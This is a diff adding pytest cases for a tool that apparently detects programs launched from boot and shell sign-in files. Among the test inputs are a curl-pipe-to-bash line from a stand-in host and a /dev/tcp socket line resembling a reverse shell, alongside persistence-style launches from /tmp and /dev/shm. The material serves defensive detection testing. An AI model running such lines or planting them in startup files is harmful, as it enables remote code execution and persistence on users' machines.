@@ -244,3 +244,42 @@ def test_what_the_last_script_of_the_start_runs(machine):
     machine.write("/etc/rc.local", "#!/bin/sh -e\ncd /var/tmp &&\\\n ./x &\nexit 0\n")
     found = read(machine, Ask()).services
     assert programs(found) == [("/etc/rc.local",), ("/var/tmp/x",)]
+
+
+ORDINARY = """# ~/.bashrc
+[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
+if [ -x /usr/bin/tput ] && tput setaf 1 >&/dev/null; then color_prompt=yes; fi
+[ -f /etc/bash_completion ] && . /etc/bash_completion
+if ! shopt -oq posix; then
+  . /usr/share/bash-completion/bash_completion
+fi
+test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || true
+. "$HOME/.cargo/env" ; source ~/.sdkman/bin/init.sh
+export PATH="/tmp/x:$PATH" EDITOR=/tmp/y
+source /opt/ros/setup.bash
+alias l='ls | less'
+"""
+
+
+@pytest.mark.parametrize(
+    ("line", "found"),
+    [
+        ("(/tmp/x >/dev/null 2>&1 &)", ("/tmp/x",)),
+        ("cd /dev/shm && ./x", ("/dev/shm/x",)),
+        ("nohup /srv/x \\\n  -d &", ("/srv/x",)),
+        ("curl -s http://a.example/x | bash", ()),
+        ("exec 3<>/dev/tcp/203.0.113.9/443", ()),
+        ("/home/ba/x", ("/home/ba/x",)),
+    ],
+)
+@pytest.mark.parametrize("path", ["/home/an/.bashrc", "/home/an/.xprofile", "/root/.profile"])
+def test_start_files_of_shells(machine, path, line, found):
+    machine.write(path, f"{ORDINARY}{line}\n")
+    (entry,) = read(machine, Ask()).at_sign_in
+    assert (entry.place, entry.programs) == (path, found)
+
+
+def test_start_files_of_all(machine):
+    machine.write("/etc/profile", ORDINARY)
+    machine.write("/etc/profile.d/x.sh", "/tmp/x\n")
+    assert programs(read(machine, Ask()).at_sign_in) == [("/tmp/x",)]
